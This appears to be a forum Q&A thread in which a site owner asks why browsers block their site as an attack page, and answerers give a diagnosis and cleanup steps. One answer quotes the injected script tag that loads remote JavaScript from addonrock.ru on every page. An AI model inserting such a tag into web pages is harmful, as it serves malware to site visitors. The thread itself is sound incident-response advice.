My site bccfalna.com is working normal before 2 days but now its not open in firefox/chrome and other browser and come below error message

Reported Attack Page!

This web page at www.bccfalna.com has been reported as an attack page and has been blocked based on your security preferences.

so, how to solve this security problem, please help me to resolve it....


Your website has been balcklisted by Google Safe browsing. It is integrated in Firefox, Safari,and Chrome (not Internet Explorer).

First check what Google Safe Browsing says about your domain on the diagnostic page:

Malicious software is hosted on 1 domain(s), including addonrock.ru/

So, somewhere, you have a link to this domain. Indeed, on all your pages, you'll find this at the end of the code, after the </html> tag:

<script type="text/javascript" src="http://addonrock.ru/Java.js"></script>

You're web application has been hacked! If you are using an open-source application, check if you are running the latest version (check the plugins as well). There may be a known vulnerability.

Here is what to do next:

  1. understand how your site was hacked: known vulnerability in application, problem with your hosting provider, vulnerability in your code (remote file inclusion, etc.), etc.
  2. plug the hole: upgrade your application, fix your own code, etc.
  3. check all your files and databases for any malicious code
  4. restore a safe backup

Step 4 is OK if you are sure that the attackers has not left any backdoor. Of course, you can never be 100% sure.... If you have enough time and money, use a new server to host your website.

  • +1 Excellent answer - more specific than the accepted one, which results in more useful information. – dunxd Sep 20 '10 at 10:40

Well, assuming that you are not deliberately distributing malware, my bet is that you got hacked and either viruses or malware are being distributed from your website.This page has details on what's going on.

Take everything down and restore from a known-good backup.

  • Have you any idea to solve this problem – tanujdave Sep 20 '10 at 5:19
  • As stated in my answer above, the only reasonable solution to your problem is to delete all the files in your DocumentRoot (and possibly re-install your whole server) and restore from a known-good backup. – EEAA Sep 20 '10 at 18:44

Scripts from addonrock.ru and alienradar.ru get inserted via FTP.

Some Windows malware picks up the FTP login info from Filezilla and other common FTP clients.So basically:

1) Clean your client machine. 2) Change all passwords on server. 3) Replace all infected files. If you don't have access to a log, just replace all of them.

  • Do you have a link to back this up? – Josh Brower Sep 20 '10 at 22:22
  • +1 Wipe and reload machines, including clients where credentials for the server has been used. – Oskar Duveborn Sep 23 '10 at 8:40

Your Answer

By clicking “Post Your Answer”, you agree to our terms of service, privacy policy and cookie policy

Not theanswer you're looking for? Browse other questions tagged or ask your own question.